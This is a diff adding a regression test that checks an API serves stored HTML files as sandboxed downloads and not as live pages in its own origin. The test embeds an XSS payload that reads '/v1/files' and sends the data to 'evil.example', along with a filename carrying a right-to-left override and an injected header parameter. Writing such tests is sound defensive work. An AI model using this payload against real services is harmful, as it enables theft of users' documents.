@@ -608,3 +608,29 @@ def test_stored_responses_are_bounded_in_bytes_not_only_in_count(tmp_path: Path)
             assert status == 200
             assert _request(served, "GET", f"/v1/responses/{answer['id']}")[0] == 404
             assert _request(served, "GET", f"/v1/responses/{ids[-1]}")[0] == 200
+
+
+# -- documents served back --------------------------------------------------------------------
+
+
+def test_a_stored_html_document_is_downloaded_not_run_in_the_servers_origin(
+    served: Served,
+) -> None:
+    """An HTML page in the store was served as ``text/html`` from the API's own origin: opening
+    ``/v1/files/ID/content`` in a browser ran its scripts same-origin with the API, free to read
+    every document and (its Origin being the server's own) to write."""
+    page = (
+        b"<html><body><h1>Lighthouse notes</h1><script>fetch('/v1/files').then(r => r.text())"
+        b".then(t => fetch('https://evil.example/?' + btoa(t)))</script></body></html>"
+    )
+    body, content_type = _multipart("notes ; x=\u202e.html".encode(), page)
+    status, _, answer = _request(served, "POST", "/v1/files", body, {"Content-Type": content_type})
+    assert status == 200, answer
+    file_id = json.loads(answer)["id"]
+    status, headers, content = _request(served, "GET", f"/v1/files/{file_id}/content")
+    assert status == 200
+    assert content == page  # the bytes are unchanged for API clients
+    assert headers["content-disposition"].startswith("attachment;")
+    assert headers["x-content-type-options"] == "nosniff"
+    assert "sandbox" in headers["content-security-policy"]
+    assert headers["content-disposition"].isascii()
